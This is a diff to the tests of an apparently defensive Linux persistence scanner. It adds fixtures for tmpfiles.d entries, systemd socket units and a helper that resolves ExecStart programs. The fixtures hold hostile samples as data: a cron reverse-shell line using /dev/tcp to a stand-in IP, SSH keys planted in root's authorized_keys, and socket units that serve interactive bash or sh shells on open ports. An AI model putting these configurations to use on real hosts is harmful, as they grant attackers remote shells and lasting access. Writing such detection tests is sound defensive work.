@@ -5,6 +5,7 @@
 import assert from "node:assert/strict";
 import { persistence } from "../../src/scanners/persistence/index.ts";
 import { makeTree, runOne } from "../helpers.ts";
+import { runProgram } from "../../src/scanners/persistence/sources/systemd.ts";
 import { parseTmpfiles } from "../../src/scanners/persistence/sources/tmpfiles.ts";
 import { exe, fired, rootWith } from "./persistence_fixtures.ts";
 
@@ -262,6 +263,9 @@ Deno.test("tmpfiles.d: boot-time writes of persistence files fire; packaged and 
       "w+ /root/.ssh/authorized_keys - - - - ssh-ed25519 AAAAC3Nza backdoor\n",
     "etc/tmpfiles.d/jobs.conf":
       "f+ /etc/cron.d/sync 0644 root root - * * * * * root bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n",
+    // Quoted paths and specifiers are what systemd-tmpfiles reads too (252 expanded %h to /root here).
+    "etc/tmpfiles.d/quoted.conf": 'L+ "/etc/X11/Xsession.d/10zz" - - - - /var/tmp/.xs\n' +
+      "f+ %h/.ssh/authorized_keys 0600 root root - ssh-ed25519 AAAAC3Nza x\n",
     "var/tmp/.l": "\u007fELF\u0000",
     // Quiet: runtime directories and files, the distribution's own links and copies (packaged).
     "etc/tmpfiles.d/app.conf": "d /run/app 0755 app app -\nf /var/log/app.log 0640 app adm -\n",
@@ -276,10 +280,17 @@ Deno.test("tmpfiles.d: boot-time writes of persistence files fire; packaged and 
   assert.deepEqual(fired(r.findings), [
     "critical persistence.command.reverse_shell /etc/tmpfiles.d/jobs.conf:1",
     "high persistence.command.untrusted_path /etc/tmpfiles.d/health.conf:1",
+    "high persistence.command.untrusted_path /etc/tmpfiles.d/quoted.conf:1",
     "high persistence.tmpfiles.persistence_target /etc/tmpfiles.d/health.conf:1",
     "high persistence.tmpfiles.persistence_target /etc/tmpfiles.d/health.conf:2",
     "high persistence.tmpfiles.persistence_target /etc/tmpfiles.d/jobs.conf:1",
+    "high persistence.tmpfiles.persistence_target /etc/tmpfiles.d/quoted.conf:1",
+    "high persistence.tmpfiles.persistence_target /etc/tmpfiles.d/quoted.conf:2",
   ]);
+  const key = r.findings.find((f) =>
+    f.metadata.path === "/etc/tmpfiles.d/quoted.conf" && f.metadata.line === 2
+  )!;
+  assert.equal(key.metadata.target, "/root/.ssh/authorized_keys");
 });
 
 Deno.test("systemd sockets: a bind shell started per connection, socket Exec lines, and the other user unit dirs", async () => {
@@ -290,6 +301,13 @@ Deno.test("systemd sockets: a bind shell started per connection, socket Exec lin
     "var/tmp/.x/prep": exe("#!/bin/sh\n"),
     "usr/local/lib/systemd/user/sync.service": "[Service]\nExecStart=/var/tmp/.y/sync\n",
     "var/tmp/.y/sync": exe("#!/bin/sh\n"),
+    // Behind a wrapper, quoted, and as a user's own socket.
+    "etc/systemd/system/s2.socket": "[Socket]\nListenStream=31338\nAccept=yes\n",
+    "etc/systemd/system/s2@.service": "[Service]\nExecStart=/usr/bin/env -i bash -i\nStandardInput=socket\n",
+    "etc/systemd/system/s3.socket": "[Socket]\nListenStream=31339\nAccept=yes\n",
+    "etc/systemd/system/s3@.service": '[Service]\nExecStart="/bin/bash" -i\nStandardInput=socket\n',
+    "home/bob/.config/systemd/user/u.socket": "[Socket]\nListenStream=31340\nAccept=yes\n",
+    "home/bob/.config/systemd/user/u@.service": "[Service]\nExecStart=/bin/sh -i\nStandardInput=socket\n",
     // Quiet: sshd started per connection (its input is the socket, its program is no shell).
     "lib/systemd/system/ssh.socket": "[Socket]\nListenStream=22\nAccept=yes\n",
     "lib/systemd/system/ssh@.service": "[Service]\nExecStart=-/usr/sbin/sshd -i\nStandardInput=socket\n",
@@ -297,6 +315,9 @@ Deno.test("systemd sockets: a bind shell started per connection, socket Exec lin
   const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
   assert.deepEqual(fired(r.findings).filter((f) => !f.includes("unowned")), [
     "critical persistence.systemd_unit.socket_shell /etc/systemd/system/backdoor.socket",
+    "critical persistence.systemd_unit.socket_shell /etc/systemd/system/s2.socket",
+    "critical persistence.systemd_unit.socket_shell /etc/systemd/system/s3.socket",
+    "critical persistence.systemd_unit.socket_shell /home/bob/.config/systemd/user/u.socket",
     "high persistence.command.untrusted_path /etc/systemd/system/backdoor.socket",
     "high persistence.command.untrusted_path /usr/local/lib/systemd/user/sync.service",
   ]);
@@ -335,4 +356,14 @@ Deno.test("systemd: transient and control units are read with the others", async
     "high persistence.command.untrusted_path /run/systemd/transient/run-u42.service",
     "high persistence.systemd_unit.preload /etc/systemd/system.control/ssh.service.d/50-Env.conf:2",
   ]);
+});
+
+Deno.test("runProgram: the program an ExecStart= line finally runs, past wrappers and quotes", () => {
+  assert.equal(runProgram("/bin/bash -i"), "bash");
+  assert.equal(runProgram("/usr/bin/env -i PATH=/x bash -i"), "bash");
+  assert.equal(runProgram('"/bin/sh" -c x'), "sh");
+  assert.equal(runProgram("nice -n 5 timeout 60 setsid /usr/bin/python3 -i"), "python3");
+  assert.equal(runProgram("/usr/sbin/sshd -i"), "sshd");
+  assert.equal(runProgram(""), "");
+  assert.equal(runProgram("env"), "");
 });
